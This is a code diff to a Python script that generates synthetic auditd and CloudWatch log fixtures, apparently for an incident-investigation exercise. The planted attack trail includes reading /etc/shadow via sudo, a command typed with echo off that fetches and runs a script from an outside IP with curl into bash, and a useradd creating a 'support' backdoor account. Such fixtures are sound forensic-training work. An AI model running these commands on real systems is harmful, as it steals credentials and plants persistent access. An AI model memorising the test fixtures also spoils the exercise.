@@ -158,6 +158,11 @@ STREAMS = {
          "COMMAND=/bin/su -\r\n"
          "Oct  5 09:13:02 ip-10-0-1-11 su: pam_unix(su-l:session): session opened for user root by "
          "ec2-user(uid=0)\r\n" + ROOT_WEB),
+        ("2026-10-05T09:14:30Z", "/usr/local/sbin/rotate-logs.sh\r\nrotated 3 files\r\n" + ROOT_WEB),
+        # Echo off: what alice types next never reaches the pty's output (auditd sees it run).
+        ("2026-10-05T09:15:20Z", "stty -echo\r\n" + ROOT_WEB),
+        ("2026-10-05T09:16:05Z", ROOT_WEB),
+        ("2026-10-05T09:16:31Z", ROOT_WEB),
         ("2026-10-05T09:17:58Z", "exit\r\nlogout\r\n" + EC2),
         ("2026-10-05T09:18:38Z", "exit\r\nexit\r\n"),
     ]),
@@ -496,6 +501,40 @@ def cwl_export(stream, timed_lines, delay_ms=900):
     return {"events": events, "searchedLogStreams": []}
 
 
+def audit_value(text):
+    """An auditd string field: quoted, or hex when it holds a space, a quote or a control byte."""
+    if any(c in text for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in text):
+        return text.encode().hex().upper()
+    return f'"{text}"'
+
+
+def exec_records(moment, serial, pid, ppid, argv, exe, uid, uid_name, auid, ses, tty, cwd):
+    """The records auditd (log_format = ENRICHED) writes for one execve under
+    `-a always,exit -F arch=b64 -S execve -k exec`: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE.
+    sudo is setuid root: its real uid stays the caller's, its effective uid is 0."""
+    euid = 0 if exe == "/usr/bin/sudo" else uid
+    stamp = f"msg=audit({int(moment.timestamp())}.{serial % 1000:03d}:{serial})"
+    comm = os.path.basename(argv[0]).lstrip("-")[:15]
+    auid_number, auid_name = auid
+    syscall = (f"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1 a1=55d0c2 "
+               f"a2=55d0c3 a3=0 items=2 ppid={ppid} pid={pid} auid={auid_number} uid={uid} gid={uid} "
+               f"euid={euid} suid={euid} fsuid={euid} egid={uid} sgid={uid} fsgid={uid} "
+               f"tty={tty or '(none)'} ses={ses} comm=\"{comm}\" exe=\"{exe}\" key=\"exec\""
+               f"\x1dARCH=x86_64 SYSCALL=execve AUID=\"{auid_name}\" UID=\"{uid_name}\" GID=\"{uid_name}\"")
+    execve = f"type=EXECVE {stamp}: argc={len(argv)} " + " ".join(
+        f"a{i}={audit_value(arg)}" for i, arg in enumerate(argv))
+    proctitle = "\0".join(argv).encode().hex().upper()
+    return [
+        syscall,
+        execve,
+        f"type=CWD {stamp}: cwd={audit_value(cwd)}",
+        f"type=PATH {stamp}: item=0 name={audit_value(exe)} inode={40000 + pid} dev=ca:01 mode=0100755 "
+        f"ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
+        f"type=PROCTITLE {stamp}: proctitle={proctitle}",
+        f"type=EOE {stamp}:",
+    ]
+
+
 def write_host_logs():
     bastion, _ = INSTANCES["prod-bastion-1"]
     host = "ip-10-0-0-44"
@@ -534,12 +573,71 @@ def write_host_logs():
         f"ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
         f"type=PROCTITLE {stamp}: proctitle=2F7573722F7362696E2F76697375646F",
     ]
+    # bob's shell (sshd forks it without an exec auditd sees, so its parent is unknown: the
+    # login's OS user ties it to his session), and what he ran from it.
+    bob_execs = [
+        ("2026-10-06T16:00:14Z", 8790, 2213, 2212, ["-bash"], "/usr/bin/bash", 1000, "ec2-user"),
+        ("2026-10-06T16:02:40Z", 8811, 2290, 2213, ["sudo", "visudo"], "/usr/bin/sudo", 1000, "ec2-user"),
+        ("2026-10-06T16:05:01Z", 8830, 2300, 2213, ["sudo", "cat", "/etc/shadow"], "/usr/bin/sudo", 1000, "ec2-user"),
+        ("2026-10-06T16:05:01Z", 8831, 2301, 2300, ["cat", "/etc/shadow"], "/usr/bin/cat", 0, "root"),
+    ]
+    timed_audit = [(moment, line) for line in audit]
+    for when, serial, pid, ppid, argv, exe, uid, uid_name in bob_execs:
+        for line in exec_records(t(when), serial, pid, ppid, argv, exe, uid, uid_name,
+                                 auid=(1000, "ec2-user"), ses=4, tty="pts0", cwd="/home/ec2-user"):
+            timed_audit.append((t(when), line))
+    timed_audit.sort(key=lambda pair: pair[0])
     out_dir = os.path.join(HERE, "cloudwatch", "host-logs")
     os.makedirs(out_dir)
-    for name, timed in (("secure", secure), ("audit", [(moment, line) for line in audit])):
+    for name, timed in (("secure", secure), ("audit", timed_audit)):
         with open(os.path.join(out_dir, f"{bastion}-{name}.json"), "w") as f:
             json.dump(cwl_export(bastion, timed), f, indent=4)
             f.write("\n")
+
+    # auditd on prod-web-1 during alice's Monday session: the session worker the agent starts
+    # for her session id, her shell, sudo and su, a script and what it ran, a command typed with
+    # echo off and the payload it fetched, and a daemon's exec at the same time (no session).
+    # Session Manager shells have no login uid: auid and ses are unset.
+    web, _ = INSTANCES["prod-web-1"]
+    unset = (4294967295, "unset")
+    alice = [
+        ("2026-10-05T09:12:03Z", 20101, 3100, 1850, ["/usr/bin/ssm-session-worker", "alice-0a7f3c9e1b2d4f601", web],
+         "/usr/bin/ssm-session-worker", 0, "root", "/", None),
+        ("2026-10-05T09:12:04Z", 20102, 3101, 3100, ["sh"], "/usr/bin/bash", 1000, "ec2-user", "/home/ec2-user", "pts0"),
+        ("2026-10-05T09:12:08Z", 20110, 3105, 3101, ["whoami"], "/usr/bin/whoami", 1000, "ec2-user", "/home/ec2-user", "pts0"),
+        ("2026-10-05T09:12:30Z", 20120, 3110, 3101, ["sudo", "systemctl", "restart", "nginx"], "/usr/bin/sudo", 1000, "ec2-user",
+         "/home/ec2-user", "pts0"),
+        ("2026-10-05T09:12:30Z", 20121, 3111, 3110, ["systemctl", "restart", "nginx"], "/usr/bin/systemctl", 0, "root",
+         "/home/ec2-user", "pts0"),
+        ("2026-10-05T09:13:01Z", 20130, 3120, 3101, ["sudo", "su", "-"], "/usr/bin/sudo", 1000, "ec2-user", "/home/ec2-user", "pts0"),
+        ("2026-10-05T09:13:01Z", 20131, 3121, 3120, ["su", "-"], "/usr/bin/su", 0, "root", "/home/ec2-user", "pts0"),
+        ("2026-10-05T09:13:01Z", 20132, 3122, 3121, ["-bash"], "/usr/bin/bash", 0, "root", "/root", "pts0"),
+        ("2026-10-05T09:13:39Z", 20140, 3130, 3122, ["tail", "-n", "20", "/var/log/secure"], "/usr/bin/tail", 0, "root",
+         "/root", "pts0"),
+        ("2026-10-05T09:14:29Z", 20150, 3140, 3122, ["/bin/bash", "/usr/local/sbin/rotate-logs.sh"], "/usr/bin/bash", 0,
+         "root", "/root", "pts0"),
+        ("2026-10-05T09:14:29Z", 20151, 3141, 3140, ["find", "/var/log/nginx", "-name", "*.log", "-mtime", "+7"],
+         "/usr/bin/find", 0, "root", "/root", "pts0"),
+        ("2026-10-05T09:14:29Z", 20152, 3142, 3140, ["gzip", "-9", "/var/log/nginx/access.log-20260928"], "/usr/bin/gzip",
+         0, "root", "/root", "pts0"),
+        ("2026-10-05T09:15:00Z", 20155, 3150, 1, ["/usr/sbin/logrotate", "/etc/logrotate.conf"], "/usr/sbin/logrotate", 0,
+         "root", "/", None),
+        ("2026-10-05T09:15:19Z", 20160, 3151, 3122, ["stty", "-echo"], "/usr/bin/stty", 0, "root", "/root", "pts0"),
+        ("2026-10-05T09:16:04Z", 20170, 3160, 3122, ["curl", "-s", "http://198.51.100.250/i.sh"], "/usr/bin/curl", 0, "root",
+         "/root", "pts0"),
+        ("2026-10-05T09:16:04Z", 20171, 3161, 3122, ["bash"], "/usr/bin/bash", 0, "root", "/root", "pts0"),
+        ("2026-10-05T09:16:04Z", 20172, 3162, 3161, ["useradd", "-m", "-c", "Support Account", "support"],
+         "/usr/sbin/useradd", 0, "root", "/root", "pts0"),
+        ("2026-10-05T09:16:30Z", 20180, 3170, 3122, ["stty", "echo"], "/usr/bin/stty", 0, "root", "/root", "pts0"),
+    ]
+    timed = []
+    for when, serial, pid, ppid, argv, exe, uid, uid_name, cwd, tty in alice:
+        for line in exec_records(t(when), serial, pid, ppid, argv, exe, uid, uid_name,
+                                 auid=unset, ses=4294967295, tty=tty, cwd=cwd):
+            timed.append((t(when), line))
+    with open(os.path.join(out_dir, f"{web}-audit.json"), "w") as f:
+        json.dump(cwl_export(web, timed), f, indent=4)
+        f.write("\n")
 
     # An Azure Arc machine with Microsoft Entra ID SSH login: no Session Manager at all. Ubuntu
     # 24.04's rsyslog writes RFC 3339 times.
